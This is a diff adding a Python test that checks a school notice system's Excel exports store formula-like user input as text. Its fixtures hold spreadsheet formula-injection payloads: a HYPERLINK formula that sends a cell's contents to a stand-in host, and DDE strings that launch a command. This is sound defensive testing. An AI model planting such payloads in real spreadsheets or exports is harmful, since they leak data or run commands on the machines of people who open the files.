@@ -429,3 +429,41 @@ def test_register_export_with_dates_out_of_range_explains(app, client, people, q
     login_as(client, app, "admin")
     r = client.get(f"/disclosure/register.xlsx?{query}")
     assert r.status_code == 400 and "日期超出范围" in r.get_data(as_text=True)
+
+
+# --- exports carry no formulas ---------------------------------------------------------------
+
+HOSTILE_TITLE = '=HYPERLINK("http://e.x/?t="&D3,"打开")'
+HOSTILE_REASON = "=1+1+cmd|' /C calc'!A0"
+
+
+def _cells(data: bytes) -> list:
+    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]
+
+
+def test_exports_write_formula_like_text_as_text(app, client, people):
+    from tests.conftest import make_user
+
+    with app.app_context():
+        s = db.session
+        make_user("hostile", name="@SUM(1+1)*cmd|' /C calc'!A0", staff_no="+86-1")
+        make_user("tabbed", name="\t=1+1", staff_no="-1")
+        notice = published(s, title=HOSTILE_TITLE, audience="staff", ack=True)
+        withdrawn = published(s, title="-2+3 撤回", audience="staff")
+        rules.withdraw(s, user(s, "principal"), withdrawn, HOSTILE_REASON)
+        s.commit()
+        notice_id = notice.id
+    login_as(client, app, "principal")
+    today = utcnow().date()
+    register = client.get("/disclosure/register.xlsx", query_string={"start": str(today - timedelta(days=1)),
+                                                                     "end": str(today + timedelta(days=1))})
+    login_as(client, app, "leader")
+    acks = client.get(f"/notices/{notice_id}/acks.xlsx")
+    for name, response, expected in (
+        ("register.xlsx", register, {HOSTILE_TITLE, HOSTILE_REASON, "-2+3 撤回"}),
+        ("acks.xlsx", acks, {HOSTILE_TITLE, "@SUM(1+1)*cmd|' /C calc'!A0", "+86-1", "\t=1+1", "-1"}),
+    ):
+        cells = _cells(response.data)
+        formulas = [c.coordinate for c in cells if c.data_type == "f"]
+        assert formulas == [], name
+        assert expected <= {c.value for c in cells}, name
